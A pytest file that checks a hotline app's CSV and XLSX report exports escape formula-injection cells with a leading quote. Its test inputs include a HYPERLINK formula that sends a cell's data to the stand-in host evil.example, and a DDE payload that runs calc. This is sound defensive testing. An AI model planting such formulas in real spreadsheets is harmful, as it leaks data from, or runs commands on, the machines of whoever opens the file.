"""CSV and XLSX exports are inert: a cell a spreadsheet would run as a formula is written as text."""
import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from hotline.export_cells import inert, inert_row
from models import Department

HOSTILE_UNIT = '=HYPERLINK("http://evil.example/?d="&B5,"市住房和城乡建设局")'


@pytest.mark.parametrize("text", [
    HOSTILE_UNIT,                                  # a unit renamed by an attacker with admin access
    "+86 138 1234 5678 楼道漏水",                   # ticket text as a caller dictated it
    "-2+3 栋楼下垃圾无人清运",                      # ticket text
    "@SUM(1+1)*cmd|' /C calc'!A0",                 # a knowledge-base answer pasted from elsewhere
    "\t=1+1", "\r=1+1",
])
def test_formula_starts_get_a_leading_quote(text):
    assert inert(text) == "'" + text


@pytest.mark.parametrize("value", ["市住房和城乡建设局", "3 栋 = 漏水", "", None, 0, -1, 0.625])
def test_everything_else_is_unchanged(value):
    assert inert(value) == value


def test_a_row_is_made_inert_cell_by_cell():
    assert inert_row(["zjj", "=1", 3]) == ["zjj", "'=1", 3]


@pytest.fixture
def hostile_unit(session):
    """jtj renamed to a live formula."""
    unit = session.scalar(select(Department).where(Department.code == "jtj"))
    unit.name = HOSTILE_UNIT
    session.commit()


def test_monthly_csv_writes_the_hostile_name_as_text(api, hostile_unit):
    response = api.get("/reports/monthly/2026-11?format=csv&live=1", "supervisor")
    assert response.status_code == 200
    rows = {row["单位代码"]: row for row in csv.DictReader(io.StringIO(response.data.decode("utf-8-sig")))}
    assert rows["jtj"]["承办单位"] == "'" + HOSTILE_UNIT
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows.values() for value in row.values())


def test_monthly_xlsx_has_no_formula_cell(api, hostile_unit):
    response = api.get("/reports/monthly/2026-11?format=xlsx&live=1", "supervisor")
    book = load_workbook(io.BytesIO(response.data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert "'" + HOSTILE_UNIT in [cell.value for cell in cells]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
